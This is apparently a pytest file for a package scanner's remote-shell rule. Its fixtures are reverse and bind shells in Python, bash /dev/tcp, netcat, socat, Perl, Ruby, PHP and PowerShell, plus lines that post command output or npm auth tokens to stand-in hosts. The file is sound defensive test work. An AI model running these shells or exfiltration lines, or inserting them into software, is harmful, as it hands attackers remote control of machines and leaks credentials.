"""SHELL-001: shells for somebody elsewhere."""

from __future__ import annotations

import pytest

from assay.rules.remote_shells import remote_shell
from assay.rules.shell_001_remote_shell import RULE
from tests.behaviour import at, findings, worst
from tests.npm_behaviour import npm_package, npm_worst

HEAD = "import os, pty, socket, subprocess, requests, threading\n"
CONNECTED = "s = socket.socket()\ns.connect(('example.invalid', 4444))\n"

SHELLS = [
    CONNECTED + "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')",
    CONNECTED + "[os.dup2(s.fileno(), n) for n in (0, 1, 2)]\nsubprocess.call(['/bin/sh', '-i'])",
    CONNECTED + "subprocess.Popen(['sh'], stdin=s, stdout=s, stderr=s)",
    CONNECTED + "while True:\n    c = s.recv(1024).decode()\n    s.send(subprocess.getoutput(c).encode())",
    CONNECTED + "while 1:\n    p = subprocess.Popen(s.recv(99), shell=True, stdout=-1)\n    s.sendall(p.stdout.read())",
    "b = socket.socket()\nb.bind(('', 4444))\nb.listen(1)\nc, a = b.accept()\nos.dup2(c.fileno(), 0)\nos.system('sh')",
    "from socket import socket as k\nq = k()\nq.connect((h, 1))\ng = getattr(os, 'du' + 'p2')\ng(q.fileno(), 0)",
    CONNECTED + "p = subprocess.Popen(['cmd.exe'], stdin=-1, stdout=-1)\nwhile 1:\n    p.stdin.write(s.recv(1))",
    (
        "import sys\ns = socket.create_connection(('example.invalid', 1)).makefile('rb')\n"
        "p = subprocess.Popen([sys.executable, '-'], stdin=-1)\np.stdin.write(s.read())"
    ),
    "subprocess.Popen(['bash'], stdin=-1).communicate(requests.get('https://example.invalid').content)",
    (
        "def poll():\n    c = requests.get('https://example.invalid/task').text\n"
        "    requests.post('https://example.invalid/out', data=os.popen(c).read())\npoll()"
    ),
    "os.system('bash -i >& /dev/tcp/example.invalid/4444 0>&1')",
    "subprocess.run(['bash', '-c', 'exec 5<>/dev/tcp/example.invalid/4444; cat <&5'])",
    "os.system('nc example.invalid 4444 -e /bin/sh')",
    "os.popen('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc example.invalid 4444 > /tmp/f')",
    "os.system('ba' + 'sh -i >& /dev' + '/tcp/example.invalid/4444 0>&1')",
    "h = 'example.invalid'\nos.system(f'bash -i >& /dev/tcp/{h}/{4444} 0>&1')",
]


@pytest.mark.parametrize("source", SHELLS)
def test_shells(source: str) -> None:
    assert worst(RULE, *at("install", HEAD + source)) == "critical"
    assert worst(RULE, *at("import", HEAD + source)) in ("high", "critical")
    assert worst(RULE, *at("call", HEAD + source)) in ("high", "critical")
    assert worst(RULE, *at("test", HEAD + source)) in ("low", "medium")


@pytest.mark.parametrize(
    ("trigger", "severity"), [("install", "critical"), ("import", "high"), ("call", "medium"), ("test", "info")]
)
def test_what_a_command_prints_is_sent(trigger: str, severity: str) -> None:
    source = "requests.post('https://example.invalid', data=subprocess.check_output(['id']))"
    assert worst(RULE, *at(trigger, HEAD + source)) == severity


@pytest.mark.parametrize(
    "source",
    [
        CONNECTED + "s.send(b'a')\nsubprocess.check_output(['ls'])",
        CONNECTED + "print(s.recv(99))",
        "f = open('log', 'w')\nos.dup2(f.fileno(), 1)",
        "d = os.open(os.devnull, os.O_RDWR)\nos.dup2(d, 0)",
        "pty.spawn('/bin/sh')",
        "subprocess.Popen(['x'], stdin=subprocess.PIPE, stdout=subprocess.PIPE).communicate()",
        CONNECTED + "subprocess.Popen(['tar', 'x'], stdin=-1).communicate(s.recv(99))",
        CONNECTED + "subprocess.Popen(['python', 'tool.py'], stdin=-1).stdin.write(s.recv(99))",
        "subprocess.Popen(['bash'], stdin=-1).communicate(b'ls')",
        "os.system('nc -z example.invalid 80')",
        "os.system('openssl s_client -connect example.invalid:443')",
        "subprocess.run(requests.get('https://example.invalid').headers['x'])",
        "print('bash -i >& /dev/tcp/example.invalid/4444')",
        CONNECTED + "subprocess.run(['gh', 'secret', 'set', 'x', s.recv(99)])",
    ],
)
def test_near_misses(source: str) -> None:
    assert worst(RULE, *at("import", HEAD + source)) == "none"


@pytest.mark.parametrize(
    ("line", "what"),
    [
        ("bash -i >& /dev/tcp/127.0.0.1/1 0>&1", "a shell over /dev/tcp"),
        ("0<&196;exec 196<>/dev/tcp/127.0.0.1/1; sh <&196", "a shell over /dev/tcp"),
        ("ncat --ssl 127.0.0.1 1 -e /bin/bash", "a shell over netcat"),
        ("nc.exe 127.0.0.1 1 -e cmd.exe", "a shell over netcat"),
        ("mkfifo /tmp/f; nc 127.0.0.1 1 0</tmp/f | /bin/sh >/tmp/f 2>&1; x | telnet a", "a shell over a pipe"),
        ("telnet 127.0.0.1 1 | /bin/sh 2>&1 | telnet 127.0.0.1 2", "a shell over telnet"),
        ("socat tcp:127.0.0.1:1 exec:'bash -i',pty,stderr", "a shell over socat"),
        ("python3 -c 'import socket,os; s=socket.socket(); os.dup2(s.fileno(),0)'", "a shell by Python"),
        ("perl -e 'use Socket; socket(S,2,1,6); exec(\"sh -i\")'", "a shell by Perl"),
        ('ruby -rsocket -e \'f=TCPSocket.open("127.0.0.1",1); exec "sh"\'', "a shell by Ruby"),
        ('php -r \'$s=fsockopen("127.0.0.1",1);exec("sh <&3");\'', "a shell by PHP"),
        (
            "$c = New-Object Net.Sockets.TCPClient('127.0.0.1', 1); $s = $c.GetStream(); iex $d",
            "a shell by PowerShell",
        ),
        ("/bin/sh -i 2>&1 | openssl s_client -quiet -connect 127.0.0.1:1", "a shell over OpenSSL"),
        ("nc 127.0.0.1 1 | sh", "a shell that a listener feeds"),
        ("nc -l 127.0.0.1 1 > file", ""),
        ("ls /dev/tcp", ""),
        ("python -c 'import socket; print(socket.gethostname())'", ""),
        ("echo sync | sh -x", ""),
    ],
)
def test_command_lines(line: str, what: str) -> None:
    assert remote_shell(line) == what


def test_the_finding_says_how() -> None:
    (found,) = findings(RULE, *at("import", HEAD + SHELLS[11]))
    assert found.message == "demo 1.0 starts a remote shell"
    assert found.evidence[0].startswith("a shell over /dev/tcp: os.system(")


SETTINGS = [
    ('exec("npm config get registry").toString().trim() + "demo"', False),
    ('"https://example.invalid/?" + exec("npm config get registry")', True),
    ('exec("npm config get //registry.example/:_authToken") + "/demo"', False),
    ('"https://example.invalid/?" + exec("npm config get _auth")', True),
]


@pytest.mark.parametrize(("url", "sent"), SETTINGS)
def test_settings_that_say_where_to_ask_are_not_sent(url: str, sent: bool) -> None:
    source = f'const exec = require("child_process").execSync;\nrequire("https").get({url});\n'
    found = npm_worst(RULE, npm_package({"index.js": source}))
    assert (found == "high") is sent


REVISIONS = [
    ("git rev-parse --short HEAD", "exports.report = send;", "none"),
    ("git rev-parse --short HEAD", "send();", "high"),
    ("git rev-parse HEAD; cat notes", "exports.report = send;", "medium"),
    ("git config user.email", "exports.report = send;", "medium"),
]


@pytest.mark.parametrize(("command", "use", "severity"), REVISIONS)
def test_a_revision_is_sent_by_whoever_is_asked_to_report(command: str, use: str, severity: str) -> None:
    said = f"require('child_process').execSync('{command}').toString()"
    source = f"function send() {{ fetch('https://example.invalid/', {{method: 'POST', body: {said}}}); }}\n{use}\n"
    assert npm_worst(RULE, npm_package({"index.js": source})) == severity
